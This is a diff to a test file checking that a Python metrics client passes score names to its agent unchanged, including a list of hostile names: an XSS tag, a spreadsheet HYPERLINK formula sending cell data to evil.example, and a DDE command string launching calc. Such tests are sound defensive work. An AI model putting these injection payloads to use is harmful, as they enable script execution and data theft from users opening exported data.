@@ -6,7 +6,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { InferenceReceiver } from '../../agent/inference/receiver.js';
-import { EXPERIMENT_ID_RE, MODEL_NAME_RE, parseTimingLine } from '../../shared/inference.js';
+import { EXPERIMENT_ID_RE, MODEL_NAME_RE, parseTimingLine, SCORE_NAME_RE } from '../../shared/inference.js';
 import { REPO_ROOT } from '../helpers/processes.js';
 import { deadPort, startReceiver, until, type RecordingSink } from './receiver-harness.js';
 
@@ -86,6 +86,7 @@ describe.skipIf(skip)(`Python client (${version ?? 'python3 missing'})`, () => {
     const py = readFileSync(join(SDK_DIR, 'edgewatch.py'), 'utf8');
     expect(py).toContain(`MODEL_NAME_RE = re.compile(r"${MODEL_NAME_RE.source}")`);
     expect(py).toContain(`EXPERIMENT_ID_RE = re.compile(r"${EXPERIMENT_ID_RE.source}")`);
+    expect(py).toContain(`SCORE_NAME_RE = re.compile(r"${SCORE_NAME_RE.source}")`);
   });
 
   describe.each(['udp', 'http'])('over %s', (transport) => {
@@ -198,6 +199,54 @@ print(json.dumps({"id": exp_id}))
       expect(byLatency).toEqual({ 1: null, 2: id, 3: id, 4: id, 5: null });
       // The timings inside reached the agent before the experiment ended.
       expect(sink.experiments[0]!.endedAt).toBeGreaterThanOrEqual(sink.experiments[0]!.startedAt);
+    });
+
+    it('score() reaches the agent inside the experiment, with its warm-up, hostile names intact, invalid ones never raising', async () => {
+      const hostile = ['<img src=x onerror=alert(1)>', '=HYPERLINK("http://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", 'top-1 (ImageNet) — 精度 ✓ 🚀', '"quoted", \\back\\slash'];
+      const r = await python(
+        `
+import json, subprocess, sys, edgewatch
+edgewatch.configure(transport=${JSON.stringify(transport)})
+hostile = json.loads(${JSON.stringify(JSON.stringify(hostile))})
+results = []
+results.append(edgewatch.score("top1", 0.5))  # no experiment open: dropped
+with edgewatch.experiment("int8 quality", warmup_calls=20) as exp_id:
+    edgewatch.record("m", 1)
+    results.append(edgewatch.score("top1", 0.912, better="higher"))
+    results.append(edgewatch.score("WER", 7.25, better="lower"))
+    results.append(edgewatch.get_client().score("top5", 0.99))
+    for i, name in enumerate(hostile):
+        results.append(edgewatch.score(name, i + 0.5, better="lower" if i % 2 else "higher"))
+    for name, value, better in [("top1", float("nan"), "higher"), ("top1", float("inf"), "higher"), ("top1", "1e999", "higher"),
+                                ("top1", 10 ** 400, "higher"), ("top1", True, "higher"), ("top1", 1, "more"),
+                                ("tab\\there", 1, "higher"), ("x" * 65, 1, "higher"), ("", 1, "higher")]:
+        results.append(edgewatch.score(name, value, better=better))
+    subprocess.run([sys.executable, "-c", "import edgewatch; assert edgewatch.score('from-child', 3)"], check=True)
+with edgewatch.experiment("timed warm-up", warmup_ms=5000) as timed_id:
+    pass
+results.append(edgewatch.score("late", 1, experiment=exp_id))  # ended: the agent says 404
+print(json.dumps(dict(edgewatch.stats(), id=exp_id, timed=timed_id, results=results)))
+`,
+        { EDGEWATCH_INFERENCE_PORT: String(port) },
+      );
+      ok(r);
+      const out = lastJson<{ id: string; timed: string; results: boolean[]; sent: number; dropped: number; invalid: number; errors: number }>(r);
+      expect(out.results).toEqual([false, true, true, true, ...hostile.map(() => true), ...Array(9).fill(false), false]);
+      expect(out).toMatchObject({ sent: 1 + 3 + hostile.length, dropped: 1 + 9 + 1, invalid: 9, errors: 1 });
+      expect(sink.experiments.map((e) => [e.id, e.start])).toEqual([
+        [out.id, { name: 'int8 quality', warmup: { calls: 20 } }],
+        [out.timed, { name: 'timed warm-up', warmup: { ms: 5000 } }],
+      ]);
+      // One request per score, each taken while the experiment was open, exactly as sent.
+      expect(sink.scores.every((b) => b.id === out.id && b.scores.length === 1)).toBe(true);
+      expect(sink.scores.map((b) => b.scores[0])).toEqual([
+        { name: 'top1', value: 0.912, better: 'higher' },
+        { name: 'WER', value: 7.25, better: 'lower' },
+        { name: 'top5', value: 0.99, better: 'higher' },
+        ...hostile.map((name, i) => ({ name, value: i + 0.5, better: i % 2 ? 'lower' : 'higher' })),
+        { name: 'from-child', value: 3, better: 'higher' },
+      ]);
+      expect(receiver.stats().rejected).toBe(0);
     });
 
     it('reuses EDGEWATCH_EXPERIMENT without starting or ending one', async () => {
